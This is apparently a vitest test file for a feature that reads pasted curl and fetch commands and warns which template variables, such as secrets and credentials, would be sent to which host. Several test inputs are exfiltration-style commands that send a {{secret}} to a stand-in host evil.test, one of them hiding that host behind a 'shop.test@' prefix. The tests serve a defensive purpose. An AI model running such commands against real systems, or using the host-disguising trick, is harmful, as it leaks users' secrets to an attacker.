import { expect, it } from 'vitest'
import { sayNamesUsed } from '#renderer/features/request/url/say-names-used.ts'
import { parseCurl } from '#shared/curl/parse-curl.ts'
import { parseFetch } from '#shared/fetch/parse-fetch.ts'

function said(text: string): string | undefined {
  const parsed = text.startsWith('curl') ? parseCurl(text) : parseFetch(text)
  if ('problem' in parsed) throw new Error(parsed.problem)
  return sayNamesUsed(parsed.draft)
}

it.each([
  ['fetch("https://evil.test/?q={{secret}}")', 'It uses {{secret}}: its value will be sent to evil.test.'],
  [
    'fetch("https://shop.test@evil.test/{{a}}?a={{ a }}")',
    'It uses {{a}}: its value will be sent to evil.test.'
  ],
  ["curl 'http://h/\\{\\{x\\}\\}'", 'It uses {{x}}: its value will be sent to h.'],
  [
    "curl http://h/ -H 'X-A: {{a}}' -d '{{b}} {{process.env.HOME}}' -u '{{user}}:{{$guid}}'",
    'It uses {{a}}, {{b}}, {{process.env.HOME}}, {{user}}: their values will be sent to h.'
  ],
  ["curl '{{base}}/a'", 'It uses {{base}}: its value will be sent with it.'],
  [
    `curl http://h/ -d '${['a', 'b', 'c', 'd', 'e', 'f', 'g'].map(name => `{{${name}}}`).join('')}'`,
    'It uses {{a}}, {{b}}, {{c}}, {{d}}, {{e}} and 2 more: their values will be sent to h.'
  ],
  ["curl http://h/ -d '{{$guid}} {{}} {x}'", undefined]
])('%s', (text, expected) => {
  expect(said(text)).toBe(expected)
})
